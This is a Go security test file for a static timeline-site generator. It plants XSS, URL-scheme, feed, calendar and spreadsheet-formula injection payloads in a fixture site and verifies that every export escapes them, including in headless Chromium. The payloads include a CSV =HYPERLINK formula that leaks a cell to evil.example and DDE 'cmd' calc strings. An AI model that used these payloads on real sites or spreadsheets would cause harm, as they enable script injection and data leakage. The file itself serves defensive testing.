package hostile

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"golang.org/x/net/html"

	"github.com/timeline-news/timeline/render"
	"github.com/timeline-news/timeline/timeline"
)

// marker is in every payload: it may reach the output only as text.
const marker = "__pwned"

// hostileSite is a site whose every field tries an injection. The dated
// sentences make sure the payloads reach events, mentions, every export.
var hostileSite = map[string]string{
	"config.toml": `title = "Chronology <script>window.__pwned='config-title'</script>"
description = "\"><img src=x onerror=\"window.__pwned='config-description'\"> ]]> --> {{.}}"
languageCode = "en\"><script>window.__pwned='lang'</script>"
baseURL = "javascript:window.__pwned='baseURL'//"
`,
	"content/hostile.md": `+++
title = """<script>window.__pwned='title'</script>
second line "quoted" & 'single' ]]> -->"""
source = "\"><svg onload=\"window.__pwned='source'\">"
url = "javascript:window.__pwned='url'"
date = 2025-08-08
+++

On August 15, 2025, <script>window.__pwned='body-script'</script> Trump and Putin will meet in Anchorage.

=HYPERLINK("http://evil.example/?leak="&A1,"Click") Trump announced the meeting on August 8, 2025.

+cmd|' /C calc'!A0 Envoy Witkoff visited Russia on August 6, 2025.

@SUM(1+1) Kallas convened the ministers on August 10, 2025.

-2+3+cmd|' /C calc'!A0 is what Zelensky typed on August 12, 2025.

<img src=x onerror="window.__pwned='img';alert('img')"> Zelensky spoke on August 12, 2025.

[a link](javascript:window.__pwned='md-link') and [vb](vbscript:msgbox(1)) and [data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+) and <javascript:alert(1)> and ![img](javascript:alert(1)) and [tab](java	script:alert(1)) and [ent](&#106;avascript:alert(1)) were posted on August 13, 2025.

<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>

<a href="javascript:window.__pwned='raw-a'">raw link</a> on August 13, 2025.

]]></content><script>window.__pwned='cdata'</script> --> <!-- The feed said so on August 14, 2025.

The calendar line on August 15, 2025 ends here.
BEGIN:VEVENT
SUMMARY:injected ` + marker + `
END:VEVENT

In February 2022, the war began </script><script>window.__pwned='json'</script> and U+2028 ` + "\u2028" + ` was here.
`,
	"content/\"><img src=x onerror=alert(1)>.md": `+++
title = "File name attack"
source = "Wire, \"Agency\"; Inc.\\nSUMMARY:x"
url = "JaVaScRiPt:alert(1)"
date = "2025-08-09"
+++

Trump will meet Putin on August 15, 2025, the agency said; "quoted" \ back\slash.
`,
	"content/con.md": `+++
title = "Reserved name"
url = "https://example.org/news?a=1&b=\"onmouseover=\"window.__pwned=1"
date = 2025-08-14
+++

Tomorrow (Friday) the leaders meet. ` + "\u202e" + `reversed text` + "\u202c" + ` on August 15, 2025.
`,
	"content/data-url.md": `+++
title = "data"
url = " data:text/html,<script>window.__pwned='data-url'</script>"
date = 2025-08-10
+++

On August 15, 2025, {{.Site}} {{template "x"}} ${alert(1)} <% evil %> met.
`,
}

func writeSite(t *testing.T, dir string) {
	t.Helper()
	for name, content := range hostileSite {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// build builds the hostile site into root/site/public as `timeline build`
// does, and returns the chronology and the output folder.
func build(t *testing.T, root string) (*timeline.Chronology, string) {
	t.Helper()
	site := filepath.Join(root, "site")
	writeSite(t, site)
	s, err := timeline.LoadSite(site)
	if err != nil {
		t.Fatal(err)
	}
	c := timeline.Build(s)
	dest := filepath.Join(site, "public")
	if _, err := render.Write(c, render.Options{Dest: dest, SiteDir: site}); err != nil {
		t.Fatal(err)
	}
	return c, dest
}

func outputFiles(t *testing.T, dest string) map[string][]byte {
	t.Helper()
	files := map[string][]byte{}
	err := filepath.WalkDir(dest, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(dest, p)
		b, err := os.ReadFile(p)
		files[filepath.ToSlash(rel)] = b
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}

func TestHostileSite(t *testing.T) {
	root := t.TempDir()
	c, dest := build(t, root)
	if len(c.Articles) != 4 {
		t.Fatalf("%d articles loaded, want 4; warnings: %v", len(c.Articles), c.Warnings)
	}
	for _, a := range c.Articles {
		if a.URL != "" && !strings.HasPrefix(a.URL, "https://") {
			t.Errorf("%s: unsafe url kept: %q", a.File, a.URL)
		}
		if strings.ContainsAny(a.Title, "\n\r") {
			t.Errorf("%s: title has a line break: %q", a.File, a.Title)
		}
	}
	// Nothing written beside the site folder or the output folder.
	for _, dir := range []string{root, filepath.Join(root, "site")} {
		ents, _ := os.ReadDir(dir)
		for _, e := range ents {
			if n := e.Name(); n != "site" && n != "public" && n != "content" && n != "config.toml" {
				t.Errorf("unexpected %s in %s", n, dir)
			}
		}
	}
	files := outputFiles(t, dest)
	formats := map[string]int{}
	for name, b := range files {
		if err := render.CheckOutputName(name); err != nil && name != render.ManifestName {
			t.Errorf("unsafe output name: %v", err)
		}
		ext := filepath.Ext(name)
		switch ext {
		case ".html":
			checkHTML(t, name, b)
		case ".json":
			checkJSON(t, name, b)
		case ".xml", ".atom":
			checkXML(t, name, b)
		case ".ics":
			checkICS(t, name, b, len(c.Events))
		case ".csv":
			checkCSV(t, name, b)
		default:
			if bytes.Contains(b, []byte(marker)) {
				t.Errorf("%s: a payload reached a %q file; check it is escaped", name, ext)
			}
			continue
		}
		formats[ext]++
	}
	var got []string
	for ext, n := range formats {
		got = append(got, ext)
		t.Logf("checked %d %s files", n, ext)
	}
	sort.Strings(got)
	if formats[".html"] == 0 || formats[".json"] == 0 {
		t.Errorf("formats checked: %v; want at least HTML and JSON", got)
	}
	// The payloads must reach the output (as text): otherwise the test
	// checks nothing.
	if n := bytes.Count(files["index.html"], []byte("__pwned")); n == 0 {
		t.Errorf("index.html carries no payload text: the test site did not reach the page")
	}
}

// urlAttrs are the attributes whose value a browser may navigate to or run.
var urlAttrs = map[string]bool{"href": true, "src": true, "action": true, "formaction": true, "srcdoc": true,
	"data": true, "poster": true, "xlink:href": true, "background": true, "cite": true, "srcset": true, "ping": true}

var badScheme = regexp.MustCompile(`(?i)^\s*(javascript|vbscript|data|file)\s*:`)

// checkHTML parses an HTML page and fails on any element, attribute,
// script or style that carries a payload, and on any dangerous URL.
func checkHTML(t reporter, name string, b []byte) {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(b))
	if err != nil {
		t.Errorf("%s: %v", name, err)
		return
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			tag := n.Data
			switch tag {
			case "script", "style", "iframe", "object", "embed", "base", "form", "meta", "link", "svg", "math", "template", "noscript":
				var text strings.Builder
				for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
					if ch.Type == html.TextNode {
						text.WriteString(ch.Data)
					}
				}
				if strings.Contains(text.String(), marker) {
					t.Errorf("%s: payload inside <%s>: %.80q", name, tag, text.String())
				}
				if tag == "iframe" || tag == "object" || tag == "embed" {
					t.Errorf("%s: <%s> element in the page", name, tag)
				}
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				switch {
				case strings.HasPrefix(key, "on"):
					t.Errorf("%s: event handler attribute <%s %s=%.60q>", name, tag, key, a.Val)
				case urlAttrs[key] && badScheme.MatchString(a.Val):
					t.Errorf("%s: dangerous URL <%s %s=%.60q>", name, tag, key, a.Val)
				case urlAttrs[key] && strings.Contains(a.Val, marker) && !strings.HasPrefix(strings.TrimSpace(a.Val), "https://"):
					t.Errorf("%s: payload in a URL <%s %s=%.60q>", name, tag, key, a.Val)
				case key == "style" && strings.Contains(a.Val, marker),
					key == "content" && tag == "meta" && strings.Contains(a.Val, marker) && strings.Contains(strings.ToLower(a.Val), "url="):
					t.Errorf("%s: payload in <%s %s>", name, tag, key)
				}
			}
		}
		if n.Type == html.CommentNode && strings.Contains(n.Data, marker) {
			t.Errorf("%s: payload closed a comment early: %.60q", name, n.Data)
		}
		for ch := n.FirstChild; ch != nil; ch = ch.NextSibling {
			walk(ch)
		}
	}
	walk(doc)
}

func checkJSON(t reporter, name string, b []byte) {
	t.Helper()
	var v any
	if err := json.Unmarshal(b, &v); err != nil {
		t.Errorf("%s: not valid JSON: %v", name, err)
		return
	}
	// Safe to inline in a <script> block too: no raw <, > or & and no
	// raw U+2028/2029 (which end a line in older JavaScript).
	if bytes.ContainsAny(b, "<>") || bytes.Contains(b, []byte("\u2028")) || bytes.Contains(b, []byte("\u2029")) {
		t.Logf("%s: note: JSON has raw < > or U+2028; fine as a file, not inlinable in <script>", name)
	}
	var visit func(key string, v any)
	visit = func(key string, v any) {
		switch x := v.(type) {
		case map[string]any:
			for k, vv := range x {
				visit(k, vv)
			}
		case []any:
			for _, vv := range x {
				visit(key, vv)
			}
		case string:
			if (strings.Contains(strings.ToLower(key), "url") || key == "link" || key == "href") && badScheme.MatchString(x) {
				t.Errorf("%s: dangerous URL in %q: %q", name, key, x)
			}
		}
	}
	visit("", v)
}

// checkXML requires a well-formed document with no dangerous link, and
// checks escaped HTML content (Atom type="html") as HTML.
func checkXML(t reporter, name string, b []byte) {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(b))
	d.Strict = true
	var htmlContent bool
	for {
		tok, err := d.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Errorf("%s: not well-formed XML: %v", name, err)
			return
		}
		switch x := tok.(type) {
		case xml.StartElement:
			if strings.EqualFold(x.Name.Local, "script") {
				t.Errorf("%s: <script> element in the feed", name)
			}
			htmlContent = false
			for _, a := range x.Attr {
				if a.Name.Local == "type" && (a.Value == "html" || a.Value == "xhtml") {
					htmlContent = true
				}
				if strings.HasPrefix(strings.ToLower(a.Name.Local), "on") || (a.Name.Local == "href" || a.Name.Local == "src") && badScheme.MatchString(a.Value) {
					t.Errorf("%s: dangerous attribute %s=%q", name, a.Name.Local, a.Value)
				}
			}
		case xml.CharData:
			if htmlContent {
				checkHTML(t, name+" (html content)", x)
			}
		case xml.EndElement:
			htmlContent = false
		}
	}
}

// checkICS requires CRLF lines, folded at 75 octets, each a property of
// a known name: a line break in a title must not start a new property.
func checkICS(t reporter, name string, b []byte, events int) {
	t.Helper()
	s := string(b)
	if strings.Contains(strings.ReplaceAll(s, "\r\n", ""), "\n") || strings.Contains(strings.ReplaceAll(s, "\r\n", ""), "\r") {
		t.Errorf("%s: bare line break", name)
	}
	unfolded := strings.ReplaceAll(strings.ReplaceAll(s, "\r\n ", ""), "\r\n\t", "")
	prop := regexp.MustCompile(`^(BEGIN|END|VERSION|PRODID|CALSCALE|METHOD|X-WR-CALNAME|X-WR-CALDESC|NAME|DESCRIPTION|UID|DTSTAMP|DTSTART|DTEND|SUMMARY|URL|CATEGORIES|LOCATION|STATUS|TRANSP|SEQUENCE|LAST-MODIFIED|CREATED|COMMENT|CLASS|X-[A-Z0-9-]+)[;:]`)
	begins := 0
	for _, line := range strings.Split(strings.TrimSuffix(unfolded, "\r\n"), "\r\n") {
		if !prop.MatchString(line) {
			t.Errorf("%s: line is not a known property: %.80q", name, line)
		}
		if line == "BEGIN:VEVENT" {
			begins++
		}
		if strings.HasPrefix(line, "URL") && badScheme.MatchString(line[strings.IndexByte(line, ':')+1:]) {
			t.Errorf("%s: dangerous URL: %q", name, line)
		}
	}
	for _, raw := range strings.Split(s, "\r\n") {
		if len(raw) > 75 {
			t.Errorf("%s: line longer than 75 octets: %.40q...", name, raw)
			break
		}
	}
	if begins != events {
		t.Errorf("%s: %d VEVENTs for %d events: a payload added or hid one", name, begins, events)
	}
}

// checkCSV requires a well-formed table in which no cell starts as a
// spreadsheet formula.
func checkCSV(t reporter, name string, b []byte) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(b))
	rows, err := r.ReadAll()
	if err != nil {
		t.Errorf("%s: not valid CSV: %v", name, err)
		return
	}
	for i, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s row %d: cell would run as a formula: %.60q", name, i+1, cell)
			}
			if badScheme.MatchString(cell) {
				t.Errorf("%s row %d: dangerous URL cell %.60q", name, i+1, cell)
			}
		}
	}
}

// findChromium returns a Chromium or Chrome binary: $CHROME, else the
// first of the usual names on $PATH, else "".
func findChromium() string {
	if p := os.Getenv("CHROME"); p != "" {
		return p
	}
	for _, n := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if p, err := exec.LookPath(n); err == nil {
			return p
		}
	}
	return ""
}

// TestHostileSiteInBrowser loads every page of the hostile site in
// headless Chromium and fails when any injected script runs: a payload
// sets window.__pwned or opens a dialog (alert).
func TestHostileSiteInBrowser(t *testing.T) {
	chrome := findChromium()
	if chrome == "" {
		if os.Getenv("CI") == "true" {
			t.Fatal("no Chromium and CI=true: install the Debian packages chromium and chromium-driver, or set $CHROME")
		}
		t.Skip("no Chromium found: apt-get install -y chromium chromium-driver (or set $CHROME) to run the browser test")
	}
	if testing.Short() {
		t.Skip("browser test skipped in -short mode")
	}
	_, dest := build(t, t.TempDir())
	srv := httptest.NewServer(http.FileServer(http.Dir(dest)))
	defer srv.Close()

	ctx, cancel := startBrowser(t, chrome, 3*time.Minute)
	defer cancel()

	var mu sync.Mutex
	var dialogs []string
	chromedp.ListenTarget(ctx, func(ev any) {
		if d, ok := ev.(*page.EventJavascriptDialogOpening); ok {
			mu.Lock()
			dialogs = append(dialogs, d.Message)
			mu.Unlock()
			go chromedp.Run(ctx, page.HandleJavaScriptDialog(false))
		}
	})
	var pages []string
	for name := range outputFiles(t, dest) {
		if strings.HasSuffix(name, ".html") {
			pages = append(pages, name)
		}
	}
	sort.Strings(pages)
	for _, p := range pages {
		var pwned string
		err := chromedp.Run(ctx,
			chromedp.Navigate(srv.URL+"/"+p),
			chromedp.Sleep(100*time.Millisecond), // let onload/onerror handlers fire
			chromedp.Evaluate(`String(window.__pwned === undefined ? "" : window.__pwned)`, &pwned),
		)
		if err != nil {
			t.Errorf("%s: %v", p, err)
			continue
		}
		if pwned != "" {
			t.Errorf("%s: injected script ran: window.__pwned = %q", p, pwned)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if len(dialogs) > 0 {
		t.Errorf("injected script opened dialogs: %q", dialogs)
	}
	t.Logf("loaded %d pages in %s", len(pages), chrome)
}

// startBrowser starts headless Chromium, trying three times: on a busy
// machine the first start can miss chromedp's connection deadline.
func startBrowser(t *testing.T, chrome string, timeout time.Duration) (context.Context, context.CancelFunc) {
	t.Helper()
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(chrome), chromedp.NoSandbox, chromedp.DisableGPU,
		chromedp.Flag("disable-dev-shm-usage", true))
	var err error
	for try := 0; try < 3; try++ {
		actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
		ctx, cancelCtx := chromedp.NewContext(actx)
		ctx, cancelTimeout := context.WithTimeout(ctx, timeout)
		cancel := func() { cancelTimeout(); cancelCtx(); cancelAlloc() }
		if err = chromedp.Run(ctx); err == nil {
			return ctx, cancel
		}
		cancel()
	}
	t.Fatalf("start Chromium: %v", err)
	return nil, nil
}

// TestBrowserCatchesInjection checks the browser check itself: a page
// with a real injection must be caught, or the test above proves nothing.
func TestBrowserCatchesInjection(t *testing.T) {
	chrome := findChromium()
	if chrome == "" || testing.Short() {
		t.Skip("needs Chromium")
	}
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "index.html"), []byte(`<!doctype html><img src=x onerror="window.__pwned='img';alert('planted')">`), 0o644)
	srv := httptest.NewServer(http.FileServer(http.Dir(dir)))
	defer srv.Close()
	ctx, cancel := startBrowser(t, chrome, time.Minute)
	defer cancel()
	dialogs := make(chan string, 1)
	chromedp.ListenTarget(ctx, func(ev any) {
		if d, ok := ev.(*page.EventJavascriptDialogOpening); ok {
			select {
			case dialogs <- d.Message:
			default:
			}
			go chromedp.Run(ctx, page.HandleJavaScriptDialog(false))
		}
	})
	var pwned string
	if err := chromedp.Run(ctx, chromedp.Navigate(srv.URL+"/"), chromedp.Sleep(100*time.Millisecond),
		chromedp.Evaluate(`String(window.__pwned === undefined ? "" : window.__pwned)`, &pwned)); err != nil {
		t.Fatal(err)
	}
	if pwned != "img" {
		t.Errorf("window.__pwned = %q, want the planted injection caught", pwned)
	}
	select {
	case m := <-dialogs:
		if m != "planted" {
			t.Errorf("dialog %q, want the planted alert", m)
		}
	default:
		t.Error("the planted alert was not seen")
	}
}

// TestStaticChecksCatchInjection checks the file checks themselves on
// planted injections, one per format.
func TestStaticChecksCatchInjection(t *testing.T) {
	bad := map[string]string{
		"a.html": `<p><img src=x onerror="window.__pwned=1"></p>`,
		"b.html": `<a href=" javascript:alert(1)">x</a>`,
		"c.html": `<script>window.__pwned=1</script>`,
		"d.json": `{"url": "javascript:alert(1)"}`,
		"e.xml":  `<feed><entry><content type="html">&lt;img src=x onerror=alert(1)&gt;</content></entry></feed>`,
		"f.ics":  "BEGIN:VCALENDAR\r\nSUMMARY:x\r\nBEGIN:VEVENT\r\nEND:VCALENDAR\r\n",
		"g.csv":  "a,b\n=HYPERLINK(\"x\"),2\n",
	}
	for name, content := range bad {
		r := &recorder{}
		switch filepath.Ext(name) {
		case ".html":
			checkHTML(r, name, []byte(content))
		case ".json":
			checkJSON(r, name, []byte(content))
		case ".xml":
			checkXML(r, name, []byte(content))
		case ".ics":
			checkICS(r, name, []byte(content), 0)
		case ".csv":
			checkCSV(r, name, []byte(content))
		}
		if r.errors == 0 {
			t.Errorf("%s: planted injection not caught", name)
		}
	}
}

// reporter is the part of *testing.T the checks use.
type reporter interface {
	Helper()
	Errorf(format string, args ...any)
	Logf(format string, args ...any)
}

// recorder counts the errors a check reports.
type recorder struct{ errors int }

func (r *recorder) Helper()               {}
func (r *recorder) Errorf(string, ...any) { r.errors++ }
func (r *recorder) Logf(string, ...any)   {}
